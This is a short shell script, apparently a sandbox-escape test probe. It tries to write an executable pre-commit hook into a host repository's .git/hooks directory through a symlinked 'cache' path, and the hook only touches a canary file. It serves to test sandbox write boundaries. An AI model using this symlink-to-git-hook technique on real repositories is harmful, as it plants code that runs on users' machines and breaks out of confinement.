# M: write through a granted symlink cache -> .git/hooks. $1 = host checkout, $2 = canary
echo PAYLOAD-START
ls -la cache "$1/cache" 2>&1 | sed 's/^/M: /'
for p in cache/pre-commit "$1/cache/pre-commit"; do
  if printf '#!/bin/sh\ntouch %s\n' "$2" > "$p" && chmod +x "$p"; then echo "M: write ok: $p"; else echo "M: write failed: $p"; fi
done
